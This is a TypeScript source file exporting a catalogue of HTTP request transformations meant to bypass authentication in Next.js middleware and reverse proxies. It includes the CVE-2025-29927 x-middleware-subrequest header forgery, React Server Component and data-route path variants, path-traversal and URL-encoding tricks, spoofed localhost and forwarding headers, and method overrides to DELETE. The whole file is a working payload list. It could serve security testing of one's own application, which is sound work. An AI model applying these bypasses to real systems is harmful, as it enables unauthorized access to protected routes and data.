/** A request as it goes over the wire. */
export type Ask = { method: string; path: string; headers: Record<string, string> };

export type Bypass = (ask: Ask) => Ask;

const withHeaders =
  (headers: Record<string, string>): Bypass =>
  (ask) => ({ ...ask, headers: { ...ask.headers, ...headers } });

const withPath =
  (change: (path: string) => string): Bypass =>
  (ask) => ({ ...ask, path: change(ask.path) });

const withMethod =
  (method: string): Bypass =>
  (ask) => ({ ...ask, method });

const SUBREQUEST = "x-middleware-subrequest";

/** Bypasses that have worked somewhere: on Next.js, on proxies before it, on frameworks that read these headers. */
export const BYPASSES: Record<string, Bypass> = {
  // CVE-2025-29927 and its kin: a request that claims to have been checked already.
  "middleware was run": withHeaders({ [SUBREQUEST]: "middleware" }),
  "middleware was run five times": withHeaders({ [SUBREQUEST]: Array(5).fill("middleware").join(":") }),
  "src/middleware was run five times": withHeaders({
    [SUBREQUEST]: Array(5).fill("src/middleware").join(":"),
  }),
  "proxy was run": withHeaders({ [SUBREQUEST]: Array(5).fill("proxy").join(":") }),
  "middleware says go on": withHeaders({ "x-middleware-next": "1", "x-middleware-rewrite": "/machines" }),
  "middleware prefetch": withHeaders({ "x-middleware-prefetch": "1", "x-nextjs-data": "1" }),
  "a page's data": withHeaders({ "x-nextjs-data": "1" }),
  "the page's parts": withHeaders({ rsc: "1" }),
  "the page's parts, ahead": withHeaders({ rsc: "1", "next-router-prefetch": "1" }),
  "one segment, ahead": withHeaders({
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/_tree",
  }),
  "a refresh of one part": withHeaders({
    rsc: "1",
    "next-router-state-tree": encodeURIComponent(JSON.stringify(["", {}, null, "refetch"])),
  }),
  "a server action": withHeaders({ "next-action": "0".repeat(42) }),
  "the path as .rsc": withPath((path) => `${path === "/" ? "/index" : path}.rsc`),
  "the path with _rsc": withPath((path) => `${path}?_rsc=1abcd`),
  "the path as a segment": withPath((path) => `${path === "/" ? "/index" : path}.segments/_tree.segment.rsc`),
  "the path as a page's segment": withPath((path) => `${path}.segments/$d$id/__PAGE__.segment.rsc`),
  "the path as a page's data": withPath((path) => `/_next/data/build${path === "/" ? "/index" : path}.json`),
  "two slashes": withPath((path) => `/${path}`),
  "a slash at the end": withPath((path) => `${path}/`),
  "a dot": withPath((path) => `/.${path}`),
  "a way round": withPath((path) => `/sign-in/..${path}`),
  "an encoded way round": withPath((path) => `/sign-in/%2e%2e${path}`),
  "an encoded letter": withPath((path) =>
    path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  ),
  "an encoded slash": withPath((path) => `/%2f${path.slice(1)}`),
  "a backslash": withPath((path) => `/\\${path.slice(1)}`),
  "capital letters": withPath((path) => path.toUpperCase()),
  "a semicolon": withPath((path) => `${path};/sign-in`),
  "another path by header": withHeaders({ "x-original-url": "/sign-in", "x-rewrite-url": "/sign-in" }),
  "an invoke path": withHeaders({ "x-invoke-path": "/sign-in", "x-matched-path": "/sign-in" }),
  "from this very host": withHeaders({ "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1" }),
  "as another host": withHeaders({ "x-forwarded-host": "localhost", "x-forwarded-proto": "https" }),
  "a method by header": withHeaders({ "x-http-method-override": "DELETE", "x-http-method": "DELETE" }),
  "a method by query": withPath((path) => `${path}?_method=DELETE`),
  HEAD: withMethod("HEAD"),
  OPTIONS: withMethod("OPTIONS"),
  TRACE: withMethod("TRACE"),
};
